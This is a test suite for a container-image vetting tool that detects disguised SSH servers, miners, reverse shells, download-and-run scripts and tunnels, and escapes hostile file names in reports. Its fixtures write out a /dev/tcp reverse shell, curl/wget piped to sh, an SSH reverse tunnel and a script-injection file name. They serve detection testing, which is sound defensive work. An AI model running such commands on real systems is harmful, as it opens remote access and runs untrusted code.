#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# Is it what it says it is? What images claim, what they can do, and what of it is told; reports with hostile names in them.

load lib

setup_file() {
    brig_setup tiny
    # Programs by what is written inside of them: a real ELF file with the text of an SSH server, of a database, of none.
    cp "$TEST_BIN/probe" "$T/plain"
    { cat "$T/plain" && printf 'SSH-2.0-dropbear_2022.83\0Exit before auth from %%s\0'; } >"$T/ssh"
    { cat "$T/plain" && printf 'PostgreSQL stand-alone backend %%s\0'; } >"$T/database"
}
teardown_file() { brig_teardown; }
setup() { brig_begin; }
teardown() { brig_end; }

# look NAME CONFIG ENTRY...: makes the image and looks at it; the impostor findings as "level rule path" in $found.
look() {
    image_layout "$TT/$1" "$@"
    brig load -q -i "$TT/$1" >/dev/null
    run --separate-stderr brig vet -q --format json "$1"
    found=$(jq -r '.findings[] | select(.check == "impostor" and .level != "low") | "\(.level) \(.rule) \(.path // "-")"' <<<"$output")
}

@test "a database has a database; an SSH server in it is told, whatever it is called" {
    look mariadb '{"Entrypoint":["entry.sh"],"Cmd":["mariadbd"]}' "f|usr/sbin/mariadbd|0755|0|0|@$T/database" "f|entry.sh|0755|0|0|=#!/bin/sh\nexec \"\$@\"\n"
    assert_eq "$found" ""
    assert_eq "$(jq -r '.facts.claims | .is + " by " + .basis' <<<"$output")" "a database by its name"
    assert_eq "$(jq -r '.facts.capabilities[] | select(.name == "database") | .covered' <<<"$output")" true

    look team/mariadb-10 '{}' "f|usr/sbin/mariadbd|0755|0|0|@$T/database" "f|usr/lib/x/kworker|0755|0|0|@$T/ssh"
    assert_exit 1
    assert_eq "$found" "critical V1-ssh-server usr/lib/x/kworker"

    # Under its own name, without the mark inside (a wrapper); and that it is started does not make it claimed.
    look mysql '{"Cmd":["sh","-c","dropbear; exec mysqld"]}' "f|usr/sbin/dropbear|0755|0|0|@$T/plain"
    assert_exit 1
    assert_eq "$found" "high V1-ssh-server usr/sbin/dropbear"
    jq -e '.findings[] | select(.rule == "V1-ssh-server") | .title | test("claims to be a database") and test("starts it")' <<<"$output"
    assert_eq "$(jq -r '.findings[] | select(.rule == "V1-ssh-server") | .more.ports[]' <<<"$output")" 22
}

@test "who claims SSH has it; who cannot be started is no server; a port in the configuration is told" {
    look openssh '{"Cmd":["sshd","-D"]}' "f|usr/sbin/sshd|0755|0|0|@$T/plain"
    assert_eq "$found" ""
    look app '{"Cmd":["/usr/sbin/sshd","-D"]}' "f|usr/sbin/sshd|0755|0|0|@$T/plain"
    assert_eq "$found" ""
    # Two things at once are no claim for a way in.
    look app2 '{"Cmd":["sh","-c","/usr/sbin/sshd; nginx"]}' "f|usr/sbin/sshd|0755|0|0|@$T/plain" "f|etc/ssh/sshd_config|0644|0|0|=# Port 1\nPort 2222\n"
    assert_eq "$found" "high V1-ssh-server usr/sbin/sshd"
    assert_eq "$(jq -r '.findings[] | select(.rule == "V1-ssh-server") | .more.ports[]' <<<"$output")" 2222
    # But under another name it is told even there.
    look openssh2 '{"Cmd":["sshd","-D"]}' "f|usr/sbin/sshd|0755|0|0|@$T/plain" "f|usr/bin/python3|0755|0|0|@$T/ssh"
    assert_eq "$found" "critical V1-ssh-server usr/bin/python3"
    look app3 '{}' "f|usr/sbin/sshd|0644|0|0|@$T/plain" "f|usr/bin/ssh|0755|0|0|@$T/plain" "d|etc/dropbear"
    assert_eq "$found" ""
}

@test "reverse shells, downloaders and tunnels are told from scripts, not from comments and documentation" {
    look web '{"Cmd":["nginx"]}' 'f|etc/cron.d/x|0644|0|0|=* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n' \
        'f|start.sh|0755|0|0|=#!/bin/sh\ncurl -s https://example.org/x \\\n  | sh\n' 'f|usr/bin/h|0755|0|0|=#!/bin/sh\nssh -N -R 22:localhost:22 a@b\n'
    assert_exit 1
    assert_eq "$(sort <<<"$found")" "critical V1-reverse-shell etc/cron.d/x
high V1-download-and-run start.sh
high V1-tunnel usr/bin/h"
    look web2 '{"Cmd":["nginx"]}' 'f|start.sh|0755|0|0|=#!/bin/sh\n# curl https://x | sh\ncurl -o x https://x\nsh /x\n' \
        'f|usr/share/doc/x/r.sh|0755|0|0|=#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n'
    assert_eq "$found" ""
    look web3 '{"Entrypoint":["sh","-c","wget -qO- http://x/y | sh"]}'
    assert_eq "$found" "high V1-download-and-run -"
}

@test "a person's own rules add to ours; a wrong one, or one that others may write, stops the look" {
    mkdir -p "$BRIG_CONFIG/vet.rules.d"
    printf 'capability miner\n\ttitle\ta miner\n\twhy\tit costs money\n\tlevel\tcritical\n\tname\txmrig\nclaim database\n\tword\tplain\n' >"$BRIG_CONFIG/vet.rules.d/own.rules"
    chmod 0600 "$BRIG_CONFIG/vet.rules.d/own.rules"
    look plain '{}' "f|usr/bin/xmrig|0755|0|0|@$T/plain" "f|usr/sbin/postgres|0755|0|0|@$T/database"
    assert_eq "$found" "critical V1-miner usr/bin/xmrig"
    printf 'claim x\n\tcovers\tnothing-like-that\n' >"$TT/more.rules"
    run brig vet -q --rules "$TT/more.rules" plain
    assert_exit 2
    assert_line 'claim x: it does not say what the image is'
    printf 'capability x\n\tnme\ty\n' >"$TT/more.rules"
    run brig vet -q --rules "$TT/more.rules" plain
    assert_exit 2
    assert_line 'more.rules: line 2: "nme" means nothing'
    chmod 0666 "$BRIG_CONFIG/vet.rules.d/own.rules"
    run brig vet -q plain
    assert_exit 2
    assert_line 'can be written by others'
    rm -r "$BRIG_CONFIG/vet.rules.d"
}

@test "names that want to steer a terminal or a page come out harmless in every format" {
    local evil=$'usr/bin/\e]0;x\a<script>alert(1)<\u202e&"\'/vsftpd' format
    look hostile '{}' "f|$evil|0755|0|0|@$T/plain" $'f|usr/bin/\xff\xfe/tinysshd|0755|0|0|@'"$T/ssh"
    assert_exit 1
    for format in table json sarif junit html; do
        run -1 --separate-stderr brig vet -q --format "$format" -o "$TT/$format" hostile
        # No control character but newline, no invalid UTF-8, nothing that turns text around.
        python3 - "$TT/$format" <<'PY'
import sys
text = open(sys.argv[1], "rb").read().decode("utf-8")
bad = [c for c in text if (ord(c) < 32 and c != "\n") or c in "\x7f\u202e"]
assert text and not bad, bad
assert "vsftpd" in text and "tinysshd" in text
PY
        case $format in
        html) ! grep -qiE '<script|alert\(1\)<[^/]' "$TT/html" && grep -q '&lt;script&gt;alert(1)&lt;' "$TT/html" ;;
        junit) python3 -c 'import sys, xml.dom.minidom as m
d = m.parse(sys.argv[1])
assert len(d.getElementsByTagName("testcase")) >= 2 and d.getElementsByTagName("failure")' "$TT/junit" ;;
        esac
    done
    # What a SARIF reader asks of a log (sarif-schema-2.1.0.json): required members, known levels, rules that exist, relative URIs.
    jq -e '.version == "2.1.0" and (."$schema" | test("sarif-2.1.0")) and (.runs | length) == 1 and
        (.runs[0] | .tool.driver.name == "brig vet" and (.tool.driver.rules | length) > 0 and (.results | length) > 1 and
            (. as $run | all(.results[]; (.message.text | length) > 0 and (.level | IN("none", "note", "warning", "error")) and
                $run.tool.driver.rules[.ruleIndex].id == .ruleId and
                (.locations[0].physicalLocation.artifactLocation.uri | test("^([A-Za-z0-9._~/-]|%[0-9A-F]{2})+$")))))' "$TT/sarif"
    # The bytes of the name can be had back from the URI.
    assert_eq "$(jq -r '.runs[0].results[].locations[0].physicalLocation.artifactLocation.uri' "$TT/sarif" |
        python3 -c 'import sys, urllib.parse as u
print(sum(b"\xff\xfe/tinysshd" in u.unquote_to_bytes(l.strip()) for l in sys.stdin) > 0)')" True
}
